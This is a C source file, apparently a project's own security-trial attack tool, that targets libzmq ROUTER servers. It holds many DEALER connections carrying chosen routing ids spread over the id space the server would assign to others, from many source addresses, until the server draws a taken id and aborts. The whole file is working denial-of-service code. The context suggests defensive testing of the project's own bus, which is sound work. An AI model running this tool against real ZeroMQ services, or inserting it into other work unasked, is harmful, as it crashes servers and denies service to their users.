/* routing_ids - H1 of the security trial: peers that choose the routing ids which
 * libzmq's ROUTER would draw for others, until it draws one that is taken and aborts.
 *
 *     routing_ids ADDRESS:PORT SERVER_KEY KEY_FILE FIRST_SOURCE SOURCES HELD SECONDS
 *
 * Holds up to HELD connections whose ids are spread over the space (a zero byte and four
 * of a number), from SOURCES addresses, and opens short ones besides. An empty KEY_FILE:
 * keys are made and thrown away. Ends with "opened N admitted N refused N". Part of ./dev
 * attack.
 */
#include <inttypes.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include <zmq.h>

#include "bus/keys.h"

#define HELD_MAX 20000
#define SHORT    64 /* of short connections at once */

struct squatter {
    void *context;
    void *monitor;
    const char *target;
    const char *server_key;
    struct asg_bus_keys keys;
    uint32_t first_source;
    uint32_t sources;
    uint32_t turn;
    void *held[HELD_MAX];
    uint32_t held_count;
    void *brief[SHORT];
    void *monitors[HELD_MAX + SHORT];
    uint64_t opened;
    uint64_t admitted;
    uint64_t refused;
};

static int64_t now_ms(void)
{
    struct timespec now;
    (void)clock_gettime(CLOCK_MONOTONIC, &now);
    return (int64_t)now.tv_sec * 1000 + now.tv_nsec / 1000000;
}

static void *open_one(struct squatter *self, const uint32_t *id, size_t at)
{
    void *socket = zmq_socket(self->context, ZMQ_DEALER);
    const int none = 0;
    const int never = -1;
    (void)zmq_setsockopt(socket, ZMQ_LINGER, &none, sizeof none);
    (void)zmq_setsockopt(socket, ZMQ_RECONNECT_IVL, &never, sizeof never);
    (void)zmq_setsockopt(socket, ZMQ_CURVE_SERVERKEY, self->server_key, 41);
    (void)zmq_setsockopt(socket, ZMQ_CURVE_PUBLICKEY, self->keys.public_key, 41);
    (void)zmq_setsockopt(socket, ZMQ_CURVE_SECRETKEY, self->keys.secret_key, 41);
    if (id != NULL) {
        uint8_t bytes[5] = {0};
        memcpy(bytes + 1, id, sizeof *id);
        (void)zmq_setsockopt(socket, ZMQ_ROUTING_ID, bytes, sizeof bytes);
    }
    char name[64];
    (void)snprintf(name, sizeof name, "inproc://m%zu-%" PRIu64, at, self->opened);
    (void)zmq_socket_monitor(socket, name,
                             ZMQ_EVENT_HANDSHAKE_SUCCEEDED | ZMQ_EVENT_DISCONNECTED |
                                 ZMQ_EVENT_HANDSHAKE_FAILED_NO_DETAIL |
                                 ZMQ_EVENT_HANDSHAKE_FAILED_PROTOCOL |
                                 ZMQ_EVENT_HANDSHAKE_FAILED_AUTH);
    void *monitor = zmq_socket(self->context, ZMQ_PAIR);
    (void)zmq_connect(monitor, name);
    self->monitors[at] = monitor;
    uint32_t source = self->first_source + self->turn++ % self->sources;
    char endpoint[160];
    (void)snprintf(endpoint, sizeof endpoint, "tcp://%u.%u.%u.%u:0;%s", source >> 24,
                   source >> 16 & 255, source >> 8 & 255, source & 255, self->target);
    (void)zmq_connect(socket, endpoint);
    self->opened++;
    return socket;
}

/* 1 admitted, -1 refused or lost, 0 nothing yet. */
static int look(struct squatter *self, size_t at)
{
    int found = 0;
    zmq_msg_t message;
    (void)zmq_msg_init(&message);
    while (zmq_msg_recv(&message, self->monitors[at], ZMQ_DONTWAIT) >= 0) {
        if (zmq_msg_size(&message) == 6) {
            uint16_t event;
            memcpy(&event, zmq_msg_data(&message), sizeof event);
            found = event == ZMQ_EVENT_HANDSHAKE_SUCCEEDED ? 1 : -1;
        }
    }
    (void)zmq_msg_close(&message);
    if (found > 0) self->admitted++;
    if (found < 0) self->refused++;
    return found;
}

static void end_one(struct squatter *self, void **socket, size_t at)
{
    (void)zmq_socket_monitor(*socket, NULL, 0);
    (void)zmq_close(self->monitors[at]);
    (void)zmq_close(*socket);
    *socket = NULL;
}

static void turn(struct squatter *self, uint32_t most)
{
    if (self->held_count < most) {
        uint32_t id = self->held_count * (UINT32_MAX / most);
        self->held[self->held_count] = open_one(self, &id, self->held_count);
        self->held_count++;
    }
    for (uint32_t i = 0; i < self->held_count; i++) {
        if (look(self, i) >= 0) continue;
        end_one(self, &self->held[i], i);
        uint32_t id = i * (UINT32_MAX / most);
        self->held[i] = open_one(self, &id, i);
    }
    for (size_t i = 0; i < SHORT; i++) {
        size_t at = HELD_MAX + i;
        if (self->brief[i] == NULL) {
            self->brief[i] = open_one(self, NULL, at);
        } else if (look(self, at) != 0) {
            end_one(self, &self->brief[i], at);
        }
    }
}

int main(int argc, char **argv)
{
    if (argc != 8) return 2;
    static struct squatter self;
    self.target = argv[1];
    self.server_key = argv[2];
    struct asg_error error = {""};
    asg_bus_keys_new(&self.keys);
    if (argv[3][0] != '\0' &&
        asg_bus_keys_load_or_make(argv[3], &self.keys, &error) != ASG_OK) {
        (void)fprintf(stderr, "routing_ids: %s\n", error.text);
        return 1;
    }
    unsigned a, b, c, d;
    if (sscanf(argv[4], "%u.%u.%u.%u", &a, &b, &c, &d) != 4) return 2;
    self.first_source = a << 24 | b << 16 | c << 8 | d;
    self.sources = (uint32_t)atoi(argv[5]);
    uint32_t most = (uint32_t)atoi(argv[6]);
    if (most > HELD_MAX) most = HELD_MAX;
    self.context = zmq_ctx_new();
    (void)zmq_ctx_set(self.context, ZMQ_MAX_SOCKETS, 65536);
    int64_t until_ms = now_ms() + atoi(argv[7]) * INT64_C(1000);
    while (now_ms() < until_ms) {
        turn(&self, most);
        (void)zmq_poll(NULL, 0, 1);
    }
    (void)printf("opened %" PRIu64 " admitted %" PRIu64 " refused %" PRIu64 "\n",
                 self.opened, self.admitted, self.refused);
    (void)fflush(stdout);
    _Exit(0); /* thousands of sockets would take their time */
}
